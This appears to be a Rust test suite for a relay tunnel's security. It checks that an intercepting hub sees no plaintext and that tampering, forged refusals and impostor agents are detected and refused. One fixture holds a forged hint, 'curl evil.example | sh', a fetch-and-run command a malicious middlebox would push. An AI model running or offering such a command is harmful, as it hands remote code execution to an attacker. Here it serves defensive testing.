//! A hub that reads and alters every byte of a session: it sees no plaintext, and changes end the session.

mod common;

use std::io::Read;
use std::io::Write;
use std::net::Shutdown;
use std::net::TcpStream;
use std::sync::Arc;
use std::sync::atomic::AtomicBool;
use std::sync::atomic::Ordering;
use std::sync::mpsc;
use std::thread;
use std::time::Duration;
use std::time::Instant;

use common::Home;
use common::Hub;
use common::PATIENCE;
use common::Running;
use common::dial;
use common::echo;
use common::echoes;
use common::ends::Ending;
use common::ends::read_out;
use common::eventually;
use common::expose;
use common::fault::Kind;
use common::fault::Path;
use common::fault::Verdict;
use common::fault::Way;
use common::fault::read_head;
use common::noise;
use common::raw;
use common::raw::Stranger;
use common::reach;
use common::service;

const NEXT: &[u8] = b"and the next connection works";
const MARKER: &[u8] = b"the secret that no relay may read";

/// A joiner that comes to the hub by a path of ours.
struct Watched {
    port: u16,
    path: Path,
    _programs: [Running; 2],
    _homes: [Home; 2],
    _hub: Hub,
}

fn watched(serve: impl Fn(TcpStream) + Send + Sync + 'static) -> Watched {
    let hub = Hub::start();
    let path = Path::to(&hub.address);
    let (owner, user) = (hub.machine("member"), hub.machine_by(&path.url(), "member"));
    let exposed = expose(&owner, "service", service(serve));
    let (reached, port) = reach(&user, "service");
    Watched { port, path, _programs: [exposed, reached], _homes: [owner, user], _hub: hub }
}

#[test]
fn the_relay_sees_no_plaintext() {
    let watched = watched(echo);
    let sent = MARKER.repeat(5000);
    assert!(echoes(watched.port, &sent));
    let relayed = watched.path.relayed();
    assert!(relayed.len() > 2 * sent.len(), "the path did not carry it");
    assert!(!relayed.windows(MARKER.len()).any(|window| window == MARKER));
    // Nor a name or an address: what the session is for is inside it.
    for word in ["service", "127.0.0.1", "localhost"] {
        assert!(!relayed.windows(word.len()).any(|window| window == word.as_bytes()), "{word}");
    }
}

/// What a hub might do to a piece.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Attack {
    FlipFirst,
    FlipLast,
    Drop,
    Repeat,
    Insert,
    Truncate,
    /// Swaps two pieces.
    Reorder,
    /// An orderly end in the middle.
    End,
}

const ATTACKS: [Attack; 8] = [
    Attack::FlipFirst,
    Attack::FlipLast,
    Attack::Drop,
    Attack::Repeat,
    Attack::Insert,
    Attack::Truncate,
    Attack::Reorder,
    Attack::End,
];

/// Attacks the first piece in this direction that comes after `after` bytes, once.
fn attack(path: &Path, what: Attack, way: Way, after: usize) {
    let (mut passed, mut held, mut done) = (0, None::<Vec<u8>>, false);
    path.meddle(move |going, piece| {
        // Behind the beginning, only the connection's data: the tunnel proves its sessions at the same time.
        if going != way || done || (after > 0 && piece.len() < 4096) {
            return Verdict::Pass;
        }
        if passed < after {
            passed += piece.len();
            return Verdict::Pass;
        }
        done = true;
        match what {
            Attack::FlipFirst => piece[0] ^= 1,
            Attack::FlipLast => *piece.last_mut().unwrap() ^= 0x80,
            Attack::Drop => piece.clear(),
            Attack::Repeat => piece.extend_from_within(..),
            Attack::Insert => drop(piece.splice(..0, [0x17, 3, 3, 0, 1, 0])),
            Attack::Truncate => piece.truncate(piece.len() - 1),
            Attack::Reorder => match held.take() {
                None => {
                    done = false;
                    held = Some(std::mem::take(piece));
                }
                Some(first) => piece.extend_from_slice(&first),
            },
            Attack::End => {
                piece.truncate(piece.len() / 2);
                return Verdict::Close;
            }
        }
        Verdict::Pass
    });
}

#[test]
fn a_change_in_the_data_ends_the_connection_and_never_reaches_anybody() {
    let sent = noise(8, 2_000_000);
    let (wanted, wrong) = (sent.clone(), Arc::new(AtomicBool::new(false)));
    let own = Arc::clone(&wrong);
    let watched = watched(move |mut stream| {
        let (mut heard, mut buffer) = (0, vec![0; 64 * 1024]);
        while let Ok(count @ 1..) = stream.read(&mut buffer) {
            let piece = &buffer[..count];
            let fits = wanted[heard..].starts_with(piece) || NEXT.starts_with(piece);
            own.fetch_or(!fits, Ordering::SeqCst);
            heard += count;
            if stream.write_all(piece).is_err() {
                return;
            }
        }
        let _ = stream.shutdown(Shutdown::Write);
    });
    for what in ATTACKS {
        for (way, after) in [(Way::Up, 0), (Way::Up, 700_000), (Way::Down, 0), (Way::Down, 700_000)] {
            attack(&watched.path, what, way, after);
            let case = format!("{what:?} {way:?} after {after}");
            let client = dial(watched.port);
            thread::scope(|scope| {
                let writing = scope.spawn(|| {
                    let wrote = (&client).write_all(&sent);
                    let _ = client.shutdown(Shutdown::Write);
                    wrote
                });
                client.set_read_timeout(Some(PATIENCE)).unwrap();
                let (back, ending) = read_out(&client);
                // A reset is told once: when the write has met it, the read behind it sees an end.
                let told = writing.join().unwrap().is_err();
                assert!(sent.starts_with(&back), "{case}: altered data reached the client");
                // A session that dies before it took any data leaves the connection to the next one.
                let retried = after == 0 && (back.len(), ending) == (sent.len(), Ending::Eof);
                assert!(retried || back.len() < sent.len(), "{case}: the attack changed nothing");
                assert!(retried || told || ending == Ending::Reset, "{case}: ended as {ending:?}");
                drop(client.shutdown(Shutdown::Both));
            });
            assert!(!wrong.load(Ordering::SeqCst), "{case}: altered data reached the target");
            watched.path.leave_alone();
            let recovered = || echoes(watched.port, NEXT);
            eventually(&format!("{case}: the next works"), PATIENCE, recovered);
        }
    }
}

#[test]
fn a_change_anywhere_in_the_handshake_ends_the_session_with_an_error() {
    let hub = Hub::start();
    let path = Path::to(&hub.address);
    let (owner, user) = (hub.machine("member"), hub.machine_by(&path.url(), "member"));
    let mut exposed = expose(&owner, "echo", service(echo));
    for (way, at) in [(Way::Up, 1), (Way::Up, 9), (Way::Up, 60), (Way::Up, 200), (Way::Down, 0)]
        .into_iter()
        .chain([4, 30, 90, 200, 500].map(|at| (Way::Down, at)))
    {
        let mut passed = 0;
        path.meddle(move |going, piece| {
            if going == way {
                if (passed..passed + piece.len()).contains(&at) {
                    piece[at - passed] ^= 0x20;
                }
                passed += piece.len();
            }
            Verdict::Pass
        });
        let said = user.run(&["reach", "echo", "--check"]);
        assert_eq!(said.code, Some(1), "{way:?} at {at}: {said:#?}");
        assert!(said.err.contains("[x]"), "{way:?} at {at}: {said:#?}");
    }
    path.leave_alone();
    user.run(&["reach", "echo", "--check"]).ok();
    assert!(exposed.is_running());
}

/// What a box in the path may write to a plain connection, and wants to see believed.
const FORGED: &str =
    r#"{"error":"This connect is outdated","hint":"Run: curl evil.example | sh","code":"bad-key"}"#;

/// Answers every plain request with this status, in the hub's place.
fn forge(path: &Path, status: u16) {
    path.impersonate(move |mut socket, _| {
        let head = format!("HTTP/1.1 {status} curl evil.example\r\nContent-Type: application/json\r\n");
        let _ = write!(socket, "{head}Content-Length: {}\r\n\r\n{FORGED}", FORGED.len());
        let _ = socket.read(&mut [0]);
    });
}

const FORGED_STATUSES: [u16; 8] = [200, 401, 403, 404, 426, 429, 500, 503];

#[test]
fn a_forged_refusal_is_not_believed_by_a_joiner_and_ends_nothing() {
    let hub = Hub::start();
    let path = Path::to(&hub.address);
    let (owner, user) = (hub.machine("member"), hub.machine_by(&path.url(), "member"));
    let _exposed = expose(&owner, "db", service(echo));
    let (mut reached, port) = reach(&user, "db");
    assert!(echoes(port, NEXT));
    for status in FORGED_STATUSES.into_iter().chain([101]) {
        forge(&path, status);
        path.cut(Kind::Relay);
        let said = user.run(&["reach", "db", "--check"]);
        assert_eq!(said.code, Some(1), "{status}: {said:#?}");
        let meant = if status == 101 {
            "The agent of db does not answer"
        } else {
            "The hub's relay cannot be reached"
        };
        assert!(said.err.starts_with(&format!("[x] {meant}")), "{status}: {said:#?}");
        assert!(!said.err.contains("evil") && !said.err.contains("outdated"), "{status}: {said:#?}");
        assert!(reached.is_running(), "{status} ended a tunnel: {}", reached.err());
    }
    path.stop_impersonating();
    eventually("the tunnel is back", PATIENCE, || echoes(port, NEXT));
    assert!(!format!("{}{}", reached.out(), reached.err()).contains("evil"));
}

#[test]
fn a_forged_refusal_is_not_believed_by_an_agent_and_its_joiner_is_told_why_over_tls() {
    let hub = Hub::start();
    let path = Path::to(&hub.address);
    let (owner, user) = (hub.machine_by(&path.url(), "member"), hub.machine("member"));
    let mut exposed = expose(&owner, "db", service(echo));
    for status in FORGED_STATUSES {
        forge(&path, status);
        let said = user.run(&["reach", "db", "--check"]);
        assert_eq!(said.code, Some(1), "{status}: {said:#?}");
        assert!(said.err.contains("The agent declined: it cannot come to the relay"), "{status}: {said:#?}");
        assert!(exposed.is_running(), "{status} ended an agent: {}", exposed.err());
    }
    path.stop_impersonating();
    user.run(&["reach", "db", "--check"]).ok();
    assert!(!format!("{}{}", exposed.out(), exposed.err()).contains("evil"));
}

#[test]
fn an_agent_that_nobody_named_is_refused() {
    let hub = Hub::start();
    let path = Path::to(&hub.address);
    let (owner, user) = (hub.machine("member"), hub.machine_by(&path.url(), "member"));
    let _exposed = expose(&owner, "echo", service(echo));
    let (heard, hear) = mpsc::channel();
    path.impersonate(move |mut socket, _| {
        let hello =
            "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: connect-relay/1\r\n\r\n";
        socket.write_all(hello.as_bytes()).unwrap();
        let mut middle = Stranger::new().as_agent(socket);
        let mut said = Vec::new();
        let _ = middle.read_to_end(&mut said);
        heard.send(said).unwrap();
    });
    let said = user.run(&["reach", "echo", "--check"]);
    assert_eq!(said.code, Some(1), "{said:#?}");
    assert!(said.err.contains("Another agent answered for echo"), "{said:#?}");
    assert_eq!(hear.recv_timeout(PATIENCE).unwrap(), b"", "the joiner said something to a stranger");
}

#[test]
fn a_joiner_that_the_hub_did_not_name_is_refused() {
    let hub = Hub::start();
    let path = Path::to(&hub.address);
    let (owner, user) = (hub.machine_by(&path.url(), "member"), hub.machine("member"));
    let (dialled, dials) = mpsc::channel();
    let target = service(move |stream| drop(dialled.send(stream)));
    let exposed = owner.start(&["expose", "--json", "service", &target.to_string(), "--protocol", "tcp"]);
    exposed.wait_event("exposed");
    // Looking whether something answers is the agent's own.
    dials.recv_timeout(PATIENCE).unwrap();
    let (heard, hear) = mpsc::channel();
    path.impersonate(move |mut socket, _| {
        let hello =
            "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: connect-relay/1\r\n\r\n";
        socket.write_all(hello.as_bytes()).unwrap();
        let mut middle = Stranger::new().as_joiner_of(socket, Vec::new());
        // OPEN, and some data.
        let _ = middle.write_all(&[0; 64]);
        let mut said = Vec::new();
        let _ = middle.read_to_end(&mut said);
        heard.send(said).unwrap();
    });
    let reaching = user.start(&["reach", "service", "--check"]);
    assert_eq!(hear.recv_timeout(PATIENCE).unwrap(), b"", "the agent said something to a stranger");
    exposed.wait_err(|line| line.contains("is not the one the hub named"));
    assert!(dials.try_recv().is_err(), "the agent dialled its target for a stranger");
    // The agent has declined the session, and the joiner is told so.
    assert_eq!(reaching.finish().code, Some(1));
}

#[test]
fn a_hub_that_leads_to_another_service_of_the_same_agent_is_found_out() {
    let hub = Hub::start();
    let path = Path::to(&hub.address);
    let (owner, user) = (hub.machine("member"), hub.machine_by(&path.url(), "member"));
    let _staging = expose(&owner, "staging", service(echo));
    let (dialled, dials) = mpsc::channel();
    let _prod = expose(&owner, "prod", service(move |stream| drop(dialled.send(stream))));
    // Looking whether something answers is the agent's own.
    dials.recv_timeout(PATIENCE).unwrap();
    // What a hub would do that was taken over: the joiner asks for one service, and meets the agent for another.
    let fingerprint = user.run(&["whoami", "--json"]).ok().json()["fingerprint"].clone();
    let ask = serde_json::json!({ "service": "prod", "fingerprint": fingerprint }).to_string();
    let (status, granted) = raw::call(&hub, &raw::key_of(&user), "POST /v1/sessions", &ask);
    assert_eq!(status, 200, "{granted}");
    let request = raw::relay_request(&hub, granted["ticket"].as_str().unwrap());
    let address = hub.address.clone();
    path.impersonate(move |mut joiner, _| {
        let mut agent = TcpStream::connect(&address).unwrap();
        agent.write_all(request.as_bytes()).unwrap();
        joiner.write_all(read_head(&agent).as_bytes()).unwrap();
        let (mut up, mut down) = (joiner.try_clone().unwrap(), agent.try_clone().unwrap());
        let upwards = thread::spawn(move || std::io::copy(&mut up, &mut down));
        let _ = std::io::copy(&mut agent, &mut joiner);
        let _ = joiner.shutdown(Shutdown::Both);
        let _ = upwards.join();
    });
    let said = user.run(&["reach", "staging", "--check"]);
    assert_eq!(said.code, Some(1), "{said:#?}");
    assert!(said.err.contains("[x] The hub connected us to a different service than staging"), "{said:#?}");
    assert!(dials.try_recv().is_err(), "the agent dialled the other service");
}

#[test]
fn a_changed_agent_is_refused_loudly() {
    let hub = Hub::start();
    let (first, second, user) = (hub.machine("member"), hub.machine("member"), hub.machine("member"));
    let target = service(echo);
    let mut exposed = expose(&first, "db", target);
    user.run(&["reach", "db", "--check"]).ok();
    assert!(user.file("known_agents.json").exists());
    exposed.interrupt();
    let _usurper = expose(&second, "db", target);
    for _ in 0..2 {
        let said = user.run(&["reach", "db", "--check"]);
        assert_eq!(said.code, Some(1), "{said:#?}");
        assert!(said.err.contains("is not the one it was: its identity was "), "{said:#?}");
        assert!(said.err.ends_with("connect forget db"), "{said:#?}");
    }
    let said = user.run(&["reach", "db", "--check", "--json"]);
    assert!(format!("{}{}", said.out, said.err).contains(r#""code":"agent-changed""#), "{said:#?}");
    user.run(&["forget", "db"]).ok();
    user.run(&["reach", "db", "--check"]).ok();
}

#[test]
fn an_agent_is_remembered_when_it_has_proved_itself_and_not_because_a_hub_says_so() {
    let hub = Hub::start();
    let path = Path::to(&hub.address);
    let (owner, user) = (hub.machine("member"), hub.machine_by(&path.url(), "member"));
    let _exposed = expose(&owner, "db", service(echo));
    // Somebody else answers: nothing is proved.
    path.impersonate(|mut socket, _| {
        let hello =
            "HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: connect-relay/1\r\n\r\n";
        socket.write_all(hello.as_bytes()).unwrap();
        let _ = Stranger::new().as_agent(socket).read(&mut [0]);
    });
    assert_eq!(user.run(&["reach", "db", "--check"]).code, Some(1));
    assert!(!user.file("known_agents.json").exists(), "remembered without a proof");
    path.stop_impersonating();
    user.run(&["reach", "db", "--check"]).ok();
    let known = std::fs::read_to_string(user.file("known_agents.json")).unwrap();
    // By the hub's pin and the workspace, at whatever address the hub is.
    assert!(known.contains("/default/db\"") && !known.contains("https:"), "{known}");
}

#[test]
fn a_running_tunnel_refuses_another_agent_too_and_says_so_once() {
    let hub = Hub::start();
    let (first, second, user) = (hub.machine("member"), hub.machine("member"), hub.machine("member"));
    let mut exposed = expose(&first, "db", service(echo));
    let (reached, port) = reach(&user, "db");
    assert!(echoes(port, b"hello"));
    exposed.interrupt();
    let usurper = expose(&second, "db", service(|mut stream| drop(stream.write_all(MARKER))));
    reached.wait_event("down");
    let until = Instant::now() + Duration::from_secs(3);
    while Instant::now() < until {
        // A reset may come before the connection is even reported as made.
        let Ok(stream) = TcpStream::connect(("127.0.0.1", port)) else { continue };
        stream.set_read_timeout(Some(PATIENCE)).unwrap();
        let (heard, ending) = read_out(&stream);
        assert_eq!((heard.as_slice(), ending), (&b""[..], Ending::Reset));
    }
    assert_eq!(reached.events("down"), 1, "{}", reached.out());
    drop(usurper);
}
